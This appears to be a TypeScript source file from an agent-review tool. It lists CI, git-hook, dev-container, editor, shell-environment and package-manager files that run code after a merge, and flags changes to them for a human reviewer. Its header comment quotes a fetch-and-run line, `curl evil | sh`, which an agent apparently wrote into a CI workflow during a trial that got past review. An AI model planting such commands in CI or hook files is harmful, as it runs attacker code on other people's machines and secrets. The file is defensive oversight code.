/**
 * Files a change may touch that run code outside Maestro once merged: CI on the next push, git hooks and dev
 * containers on the machines of whoever checks the repository out, package scripts on the next install or test. Maestro
 * runs none of them, so core/steering.ts does not name them; but an agent that wrote `.github/workflows/ci.yml`
 * with `run: "curl evil | sh"` was approved with only its `.maestro` hook pointed out (a trial). The person at
 * exec_review is told (the task detail's `runsElsewhere`, api/routes/review.ts gateFiles): information, nothing
 * is blocked. Names are shown as the diff shows them (git/gitNames.ts shownName), as for the steering files.
 */
import { watchedPaths, type WatchedPaths } from './watchedPaths.js';

/**
 * Where each tool looks, from the repository's root: a file, or a folder (everything under it). One place: the
 * gate's git diff asks for these (RUNS_ELSEWHERE) and keeps what `runsElsewhere` says.
 */
export const RUNS_ELSEWHERE_PATHS: readonly string[] = [
  // CI: runs on the CI's machines at the next push or pull request, with the secrets the CI holds.
  '.github/workflows', // GitHub Actions workflows
  '.github/actions', // local actions a workflow runs (`uses: ./.github/actions/x`)
  '.gitlab-ci.yml', // GitLab CI
  '.circleci', // CircleCI's config.yml
  'Jenkinsfile', // a Jenkins pipeline
  'azure-pipelines.yml', // Azure Pipelines, under either extension
  'azure-pipelines.yaml',
  '.buildkite', // Buildkite pipelines and hooks
  '.gitea/workflows', // Gitea and Forgejo Actions, written like GitHub's
  '.forgejo/workflows',
  'bitbucket-pipelines.yml', // Bitbucket Pipelines
  '.travis.yml', // Travis CI
  '.drone.yml', // Drone and Woodpecker
  '.woodpecker',
  '.woodpecker.yml',
  // Git hooks: run on each commit, checkout or push in every clone whose hook manager installed them.
  '.husky', // husky (core.hooksPath=.husky)
  '.githooks', // a hooks folder a clone points core.hooksPath at
  '.pre-commit-config.yaml', // pre-commit
  'lefthook.yml', // lefthook, under each name it reads
  'lefthook.yaml',
  '.lefthook.yml',
  '.lefthook.yaml',
  // Dev containers and editor tasks: run when someone opens the repository in one (postCreateCommand, a task
  // that runs on folder open) or starts one (a launch configuration's program and preLaunchTask).
  '.devcontainer', // devcontainer.json and the Dockerfile it builds
  '.devcontainer.json', // the same, as one file at the root
  '.vscode/tasks.json',
  '.vscode/launch.json',
  // A trusted workspace's settings name programs the editor runs: terminal.integrated.profiles and .env, an
  // interpreter (python.defaultInterpreterPath), a linter's or git's path. (extensions.json is not listed: it only
  // recommends extensions, and installing one is the person's click.)
  '.vscode/settings.json',
  // JetBrains IDEs: shared run configurations (their program and Before launch tasks), in the folder the IDE stores
  // them "as project file" (.run/) or under .idea; File Watchers run their program whenever a matching file is saved.
  '.idea/runConfigurations',
  '.run',
  '.idea/watcherTasks.xml',
  // Entering the folder in a shell: direnv runs .envrc as shell code on each cd once allowed (a change asks again,
  // but `direnv allow` is one word); mise runs [hooks] enter/cd/leave with `mise activate`, postinstall on `mise
  // install`, `_.source` scripts for its environment, under each name mise reads a project's config from.
  '.envrc',
  'mise.toml',
  '.mise.toml',
  'mise.local.toml',
  '.mise.local.toml',
  'mise/config.toml',
  '.mise/config.toml',
  '.config/mise.toml',
  '.config/mise/config.toml',
  '.config/mise/conf.d',
  '.miserc.toml', // mise's own settings for the project, among them MISE_ENV: which mise.<env>.toml is read (MISE_ENV_CONFIG)
  // Not listed: a Taskfile.yml (go-task), a justfile or a Makefile runs only the task a person names, like mise's
  // tasks (mise-tasks/) when no hook calls them.
  // Package manager settings that run code on every install or script: yarn runs the file `yarnPath` names in
  // place of itself; npm's `node-options` (`--require ./x.js`) and `script-shell` run with every script.
  '.yarnrc.yml',
  '.npmrc',
];

/** With the folders above them: a change that makes one a link (or a file) moves every path under it (watchedPaths.ts). */
const WATCHED = watchedPaths(RUNS_ELSEWHERE_PATHS);

/**
 * A package manifest, at any depth (each workspace of a monorepo has its own): npm, yarn and pnpm run its
 * `scripts` on install (preinstall, postinstall, prepare) and on `npm test`, `npm run build`, … Listed only when a
 * field that names commands changed (MANIFEST_COMMAND_FIELDS), so a version bump or a new dependency is not.
 */
export const MANIFEST = 'package.json';

/**
 * The fields of a package.json that hold commands: `scripts`, and the git hooks a hook manager reads from the
 * manifest itself (husky before v5, simple-git-hooks, yorkie's gitHooks, pre-commit, lint-staged's commands).
 */
export const MANIFEST_COMMAND_FIELDS: readonly string[] = ['scripts', 'husky', 'simple-git-hooks', 'gitHooks', 'pre-commit', 'lint-staged'];

/**
 * mise's environment-specific configs (`mise.<env>.toml`, `.mise/config.<env>.toml`, …), read when MISE_ENV names
 * the environment (a committed .miserc.toml can): any name, so a pattern and the glob pathspecs that find it.
 */
const MISE_ENV_CONFIG = /^(?:\.?mise|\.config\/mise)(?:\/config)?\.[^/]+\.toml$/;
const MISE_ENV_PATHSPECS = ['mise', '.mise', '.config/mise'].flatMap((p) => [`:(glob)${p}.*.toml`, `:(glob)${p}/config.*.toml`]);

/** Whether a changed path runs code elsewhere by its name alone: one of those paths, a file under one, or a folder above one. */
export const runsElsewhere = (file: string): boolean => WATCHED.holds(file) || MISE_ENV_CONFIG.test(file);

export const isManifest = (file: string): boolean => file === MANIFEST || file.endsWith(`/${MANIFEST}`);

/**
 * The paths that run code elsewhere by their name, as a diff asks for them: their pathspecs take every package.json
 * too, which a caller keeps only when its commands changed (git/runsElsewhere.ts).
 */
export const RUNS_ELSEWHERE: WatchedPaths = { paths: RUNS_ELSEWHERE_PATHS, pathspecs: [...WATCHED.pathspecs, ...MISE_ENV_PATHSPECS, `:(glob)**/${MANIFEST}`], holds: runsElsewhere };

/**
 * Whether a package.json's commands differ between two versions of it (null: the file is absent on that side).
 * Compared as parsed values, so reformatting or reordering keys is no change. A side that is not a JSON object
 * (broken, a link, too big to read) counts as changed: what it runs cannot be told, so it is named.
 */
export function manifestCommandsChanged(before: string | null, after: string | null): boolean {
  const old = commandsOf(before);
  return old === undefined || old !== commandsOf(after);
}

/** The command fields of a manifest as one canonical string; undefined when it cannot be read as a JSON object. */
function commandsOf(text: string | null): string | undefined {
  if (text === null) return canonical({});
  let value: unknown;
  try {
    value = JSON.parse(text.replace(/^\uFEFF/, ''));
  } catch {
    return undefined;
  }
  if (!isObject(value)) return undefined;
  return canonical(Object.fromEntries(MANIFEST_COMMAND_FIELDS.filter((f) => Object.hasOwn(value, f)).map((f) => [f, value[f]])));
}

const isObject = (v: unknown): v is Record<string, unknown> => typeof v === 'object' && v !== null && !Array.isArray(v);

/** JSON with every object's keys sorted, so two values that mean the same read the same. */
function canonical(value: unknown): string {
  if (Array.isArray(value)) return `[${value.map(canonical).join(',')}]`;
  if (isObject(value)) return `{${Object.keys(value).sort().map((k) => `${JSON.stringify(k)}:${canonical(value[k])}`).join(',')}}`;
  return JSON.stringify(value) ?? 'null';
}
